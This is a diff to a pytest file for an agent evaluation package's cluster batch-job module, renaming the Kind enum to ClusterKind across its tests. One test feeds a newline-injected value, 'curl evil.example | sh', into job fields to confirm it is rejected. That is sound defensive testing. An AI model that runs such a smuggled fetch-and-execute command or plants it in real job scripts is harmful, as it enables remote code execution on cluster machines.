@@ -13,7 +13,7 @@ import pytest
 import oragent
 from oragent._base.errors import ConfigError, SandboxError
 from oragent.evaluation.cluster.batch import BatchJobs, script
-from oragent.evaluation.cluster.where import Certificates, Kind, Where
+from oragent.evaluation.cluster.where import Certificates, ClusterKind, Where
 
 if find_spec("dask_jobqueue") is None:  # to import it is to have it take the interrupt
     pytest.skip("dask-jobqueue is not installed", allow_module_level=True)
@@ -28,8 +28,8 @@ WHERE = {
 
 
 @pytest.mark.parametrize("name", sorted(WHERE))
-@pytest.mark.parametrize("kind", [Kind.SLURM, Kind.PBS, Kind.LSF])
-def test_a_jobs_script_is_what_it_was(kind: Kind, name: str, tmp_path: Path) -> None:
+@pytest.mark.parametrize("kind", [ClusterKind.SLURM, ClusterKind.PBS, ClusterKind.LSF])
+def test_a_jobs_script_is_what_it_was(kind: ClusterKind, name: str, tmp_path: Path) -> None:
     shared = tmp_path / "shared"
     tls = Certificates(shared / "certificate.pem", shared / "certificate.pem", shared / "key.pem")
     text = script(Where(kind, **WHERE[name]), "tls://10.0.0.1:8786", tls, shared / "logs", "oragent-1")
@@ -43,14 +43,14 @@ def test_a_jobs_script_is_what_it_was(kind: Kind, name: str, tmp_path: Path) -> 
 def test_no_line_of_a_script_can_be_smuggled_in() -> None:
     for field in ("queue", "account", "walltime", "memory"):
         with pytest.raises(ValueError, match="cannot stand on one line"):
-            Where(Kind.SLURM, **{field: "x\ncurl evil.example | sh"})
+            Where(ClusterKind.SLURM, **{field: "x\ncurl evil.example | sh"})
 
 
 def test_without_the_command_it_is_said_where_jobs_are_submitted(tmp_path: Path, monkeypatch) -> None:
     monkeypatch.setenv("PATH", str(tmp_path))
     tls = Certificates(tmp_path, tmp_path, tmp_path)
     with pytest.raises(ConfigError, match="sbatch, which is not on the PATH"):
-        BatchJobs(Where(Kind.SLURM), tls, tmp_path, print)
+        BatchJobs(Where(ClusterKind.SLURM), tls, tmp_path, print)
 
 
 SBATCH = """#!/bin/sh
@@ -96,7 +96,7 @@ def test_jobs_are_submitted_without_a_key_replaced_and_ended(slurm: Path, tmp_pa
     monkeypatch.setattr("oragent.evaluation.cluster.batch.script", lambda *words: "sleep 60\n")
     events: list[str] = []
     tls = Certificates(tmp_path, tmp_path, tmp_path)
-    jobs = BatchJobs(Where(Kind.SLURM, jobs=2), tls, tmp_path, events.append, look_s=0.05)
+    jobs = BatchJobs(Where(ClusterKind.SLURM, jobs=2), tls, tmp_path, events.append, look_s=0.05)
     jobs.start("tls://a:1")
     assert events == ["job 101 submitted", "job 102 submitted"]
     assert (slurm / "keys").read_text().split() == ["0", "0"]
@@ -117,7 +117,7 @@ def test_what_a_batch_system_says_is_told(slurm: Path, tmp_path: Path, monkeypat
     (slurm / "sbatch").write_text("#!/bin/sh\necho 'invalid \033[31mpartition' >&2; exit 1\n")
     tls = Certificates(tmp_path, tmp_path, tmp_path)
     with pytest.raises(SandboxError, match=r"^sbatch fails: invalid \\u001b\[31mpartition$"):
-        BatchJobs(Where(Kind.SLURM), tls, tmp_path, print).start("tls://a:1")
+        BatchJobs(Where(ClusterKind.SLURM), tls, tmp_path, print).start("tls://a:1")
 
 
 def test_the_whole_way_with_a_batch_system_that_starts_its_jobs_here(slurm: Path, toy: Path, tmp_path: Path) -> None:
